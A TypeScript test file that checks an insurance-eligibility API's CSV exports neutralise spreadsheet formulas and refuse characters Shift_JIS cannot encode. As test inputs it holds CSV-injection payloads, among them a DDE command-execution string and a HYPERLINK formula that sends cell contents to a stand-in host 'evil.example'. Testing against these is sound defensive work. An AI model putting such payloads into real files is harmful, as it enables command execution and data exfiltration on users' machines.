// Every CSV onshi writes, through the API, against spreadsheet formulas (OWASP CSV injection): a
// string cell starting with = + - @ TAB or CR is written with a leading single quote, whether it is
// the facility's own input echoed (batch results), a member's name or address (certificate print
// data) or a facility's name (payout list). The Shift_JIS print data never writes "?" for a character
// Shift_JIS lacks: the download is refused with the rows listed.

import iconv from 'iconv-lite';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { storeKinds } from '../support/stores.ts';
import { addMember, adminHeaders, createFacility, createInsurer, expectError, newFacilityCode, type TestFacility, type TestInsurer, useApp } from '../support/fixtures.ts';

const HOSTILE = ['=1+1', '@2', "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"click")', '+1', '-1'];

/** What a spreadsheet reads in the cell: the value behind a single quote, never a formula. */
const neutral = (v: string) => `'${v}`;

describe.each(storeKinds)('CSV outputs and formulas (%s)', (kind) => {
  const h = useApp(kind, { clock: () => new Date('2025-10-15T03:00:00Z') });
  let insurer: TestInsurer;
  let facility: TestFacility;

  beforeAll(async () => {
    insurer = await createInsurer(h.app);
    facility = await createFacility(h.app);
  });

  it('batch results.csv neutralises the facility’s own input echoed and the answer’s values', async () => {
    await addMember(h.app, insurer, { number: '7001', name: '=1+1', address: '@2' });
    const rows = [
      `${insurer.insurerNumber},12,7001,00,1980-04-01`,
      // The facility's own hostile input, echoed (one of each, quoted for CSV).
      ...HOSTILE.map((v) => `${insurer.insurerNumber},"${v.replaceAll('"', '""')}",7002,00,1980-04-01`),
      `${insurer.insurerNumber},"\t=1","\r=2",00,1980-04-01`,
    ];
    const up = await h.app.inject({ method: 'POST', url: '/v1/batch-inquiries', headers: { ...facility.headers, 'content-type': 'text/csv' }, payload: `insurerNumber,symbol,number,branch,birthDate\n${rows.join('\n')}\n` });
    expect(up.statusCode, up.body).toBe(202);
    await h.ctx.batch.idle();
    const file = await h.app.inject({ method: 'GET', url: `/v1/batch-inquiries/${up.json().receptionNumber}/results.csv`, headers: facility.headers });
    expect(file.statusCode, file.body).toBe(200);
    const records = parse(file.body, { columns: true }) as Record<string, string>[];
    expect(records[0]).toMatchObject({ result: 'valid', name: neutral('=1+1') });
    HOSTILE.forEach((v, i) => expect(records[i + 1].symbol, v).toBe(neutral(v)));
    expect(records[HOSTILE.length + 1]).toMatchObject({ symbol: neutral('\t=1'), number: neutral('\r=2') });
    // No cell a spreadsheet would run.
    for (const r of records) for (const [k, v] of Object.entries(r)) expect(v, k).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('certificate print data (UTF-8) neutralises names and addresses; Shift_JIS refuses rows it cannot carry instead of writing "?"', async () => {
    const a = await addMember(h.app, insurer, { number: '8001', name: '=HYPERLINK("http://evil.example","x")', address: "=cmd|' /C calc'!A0" });
    const b = await addMember(h.app, insurer, { number: '8002', name: '𠮷田　花子', address: '東京都😀区' });
    for (const m of [a, b]) {
      const r = await h.app.inject({ method: 'POST', url: `/v1/insurers/${insurer.insurerNumber}/members/${m.memberId}/certificates`, headers: insurer.headers, payload: { reason: 'no_card' } });
      expect(r.statusCode, r.body).toBe(201);
    }
    const url = `/v1/insurers/${insurer.insurerNumber}/certificates/print.csv?from=2025-10-01&to=2025-10-31`;
    const utf8 = await h.app.inject({ method: 'GET', url, headers: insurer.headers });
    expect(utf8.statusCode, utf8.body).toBe(200);
    const records = parse(utf8.body, { columns: true }) as Record<string, string>[];
    const row = records.find((r) => r['番号'] === '8001')!;
    expect(row['氏名']).toBe(neutral('=HYPERLINK("http://evil.example","x")'));
    expect(row['住所']).toBe(neutral("=cmd|' /C calc'!A0"));
    expect(records.find((r) => r['番号'] === '8002')!['氏名']).toBe('𠮷田　花子');

    const sjis = await h.app.inject({ method: 'GET', url: `${url}&charset=shift_jis`, headers: insurer.headers });
    const body = expectError(sjis, 422, 'ONSHI_EXPORT_NOT_ENCODABLE');
    const at = records.findIndex((r) => r['番号'] === '8002') + 1;
    expect(body.rows).toEqual([at]);
    expect(body.errors.map((e: { field: string; code: string }) => `${e.field}:${e.code}`).sort()).toEqual([`rows[${at}].住所:not_encodable`, `rows[${at}].氏名:not_encodable`]);
    expect(body.errors.map((e: { en: string }) => e.en).join(' ')).toMatch(/𠮷 U\+20BB7.*😀 U\+1F600|😀 U\+1F600.*𠮷 U\+20BB7/s);
  });

  it('a Shift_JIS print file without such characters is written, formulas neutralised', async () => {
    const other = await createInsurer(h.app);
    const m = await addMember(h.app, other, { number: '9001', name: '@SUM(A1)', address: '+81 東京都' });
    expect((await h.app.inject({ method: 'POST', url: `/v1/insurers/${other.insurerNumber}/members/${m.memberId}/certificates`, headers: other.headers, payload: { reason: 'no_card' } })).statusCode).toBe(201);
    const r = await h.app.inject({ method: 'GET', url: `/v1/insurers/${other.insurerNumber}/certificates/print.csv?from=2025-10-01&to=2025-10-31&charset=shift_jis`, headers: other.headers });
    expect(r.statusCode, r.body).toBe(200);
    const [rec] = parse(iconv.decode(r.rawPayload, 'cp932'), { columns: true }) as Record<string, string>[];
    expect(rec['氏名']).toBe(neutral('@SUM(A1)'));
    expect(rec['住所']).toBe(neutral('+81 東京都'));
    expect(r.rawPayload.includes(0x3f)).toBe(false);
  });

  it('the payout list (GET /v1/programmes/incentives) neutralises a facility name, numbers stay numbers', async () => {
    const code = newFacilityCode();
    const f = await h.app.inject({ method: 'POST', url: '/v1/facilities', headers: adminHeaders, payload: { code, name: "=cmd|' /C calc'!A0", type: 'clinic' } });
    expect(f.statusCode, f.body).toBe(201);
    const r = await h.app.inject({ method: 'GET', url: '/v1/programmes/incentives', headers: adminHeaders });
    expect(r.statusCode, r.body).toBe(200);
    const records = parse(r.body, { columns: true }) as Record<string, string>[];
    expect(records.find((x) => x.facility_code === code)!.name).toBe(neutral("=cmd|' /C calc'!A0"));
    for (const x of records) expect(x.amount_yen).toMatch(/^-?\d+$/);
  });
});
